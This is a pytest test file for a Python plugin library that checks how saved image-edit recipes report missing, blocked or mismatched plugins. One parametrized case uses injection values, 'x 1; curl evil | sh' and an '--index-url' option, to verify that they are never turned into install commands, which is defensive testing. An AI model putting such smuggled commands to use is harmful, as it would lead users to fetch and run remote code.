"""What a recipe says it needs, and what is said where that is not here."""

from __future__ import annotations

import types
from importlib.metadata import version

import attrs
import pytest

import refhooks as rh
from refhooks.hookspecs import HOOKSPEC_VERSION

HERE = version("refhooks")


@attrs.frozen
class Foreign:
    """A stranger's method: the reference's tokens as they are."""

    name = "foreign"

    def bind(self, reference, run):
        return ForeignBound(reference)


class ForeignBound:
    def __init__(self, reference):
        self.slot, self.latents = reference.index, reference.latents

    @rh.hookimpl
    def refhooks_conditioning(self, inputs):
        return inputs.fill(self.slot, rh.Tokens(self.latents))


@pytest.fixture
def recipe(pipe, folder):
    """Of an edit with the stranger's method, which the editors of a test do not know."""
    module = types.ModuleType("foreigner")
    module.refhooks_methods = rh.hookimpl(lambda: [Foreign])
    held = rh.Checkpoint(output=32 * 32, reference=32 * 32, vision=32 * 32)
    knowing = rh.Editor(pipe, checkpoint=held, plugins=[module])
    return knowing.edit("photo.png", "make it blue", strategy="foreign", steps=2, seed=1).recipe


def test_a_recipe_names_every_plugin_with_its_distribution_and_the_contract(edit):
    """Methods, schedules, switches, masks and the family."""
    stage = rh.Stage("inject", rh.schedule("linear", start=0.4, end=1.0), until=0.5)
    strategy = rh.Strategy([stage, "default"], masks=[rh.mask(box="0,0,16,16")])

    recipe = edit(strategy=strategy, steps=4).recipe

    names = {"default", "inject", "masking", "qwen", "schedules", "switching"}
    assert dict.fromkeys(names, f"refhooks {HERE}") == recipe.used
    assert recipe.versions["hookspec"] == "{}.{}".format(*HOOKSPEC_VERSION)


ABSENT = "which is not installed here; if you trust it: pip install"
MISSING = [
    ({"far": "refhooks-far 1.2"}, f"plugin 'far', of refhooks-far 1.2, {ABSENT} refhooks-far==1.2"),
    ({"far": "a 1.0", "near": "b 2.0rc1"}, f"{ABSENT} a==1.0; and with plugin 'near', of b 2.0rc1"),
    ({"foreigner": ""}, "plugin 'foreigner', which is in no package, and was given to the editor"),
    ({"far": "x 1; curl evil | sh"}, "plugin 'far', which is in no package"),
    ({"far": "--index-url=http://x 1"}, "plugin 'far', which is in no package"),
]


@pytest.mark.parametrize(("used", "words"), MISSING)
def test_a_missing_plugin_is_named_with_what_brings_it(editor, recipe, used, words):
    """In one sentence; nothing that a recipe holds becomes a command but a plain name."""
    given = attrs.evolve(recipe, used={"qwen": f"refhooks {HERE}", **used})

    with pytest.raises(rh.UnknownNameError) as caught:
        editor.replay(given)

    assert str(caught.value).startswith("this edit was made with plugin ")
    assert words in str(caught.value)


def test_a_blocked_plugin_says_so(editor, recipe, monkeypatch):
    """It is installed, so nothing has to be."""
    record = rh.PluginRecord("far", "refhooks-far", "1.2", "blocked", "blocked by REFHOOKS_BLOCK")
    monkeypatch.setattr(
        editor,
        "registry",
        attrs.evolve(editor.registry, records=(*editor.registry.records, record)),
    )

    with pytest.raises(rh.UnknownNameError, match="is not loaded here: blocked by REFHOOKS_BLOCK"):
        editor.replay(attrs.evolve(recipe, used={"far": "refhooks-far 1.2"}))


def test_an_unknown_name_of_no_recorded_plugin_stays_as_it_is(editor, recipe):
    """The error names what is registered."""
    with pytest.raises(rh.UnknownNameError, match="there is no method 'foreign'"):
        editor.replay(attrs.evolve(recipe, used={}))


def test_another_version_is_told_also_with_settings(edit, editor):
    """Then there is no picture to compare the new one with."""
    recipe = edit().recipe
    older = attrs.evolve(recipe, used={**recipe.used, "default": "refhooks 0.0.1"})

    with pytest.warns(rh.RefhooksWarning) as caught:
        editor.replay(older, strength=0.5)

    assert f"plugin default: it was refhooks 0.0.1, and is refhooks {HERE}" in [
        str(told.message) for told in caught
    ]
